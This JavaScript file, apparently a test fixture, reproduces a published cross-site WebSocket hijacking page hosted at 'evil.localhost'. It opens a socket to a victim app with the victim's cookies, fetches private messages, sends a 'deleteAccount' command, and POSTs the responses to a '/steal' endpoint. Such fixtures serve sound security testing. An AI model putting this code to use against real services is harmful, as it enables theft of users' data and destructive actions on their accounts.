/* oxlint-disable unicorn/prefer-add-event-listener, typescript/no-floating-promises -- the attack as it was published */
// Attacker's malicious page at evil.localhost and at evil.app.localhost

// Connect to victim's WebSocket endpoint using victim's cookies
const ws = new WebSocket('wss://vulnerable-app.com/api/ws')
ws.onopen = () => {
  // Exfiltrate data
  ws.send(JSON.stringify({ type: 'getPrivateMessages' }))
  // And send commands as the authenticated user
  ws.send(JSON.stringify({ type: 'deleteAccount' }))
}
ws.onmessage = event => {
  // Steal sensitive data from responses
  fetch('/steal' + location.search, { method: 'POST', body: event.data })
}
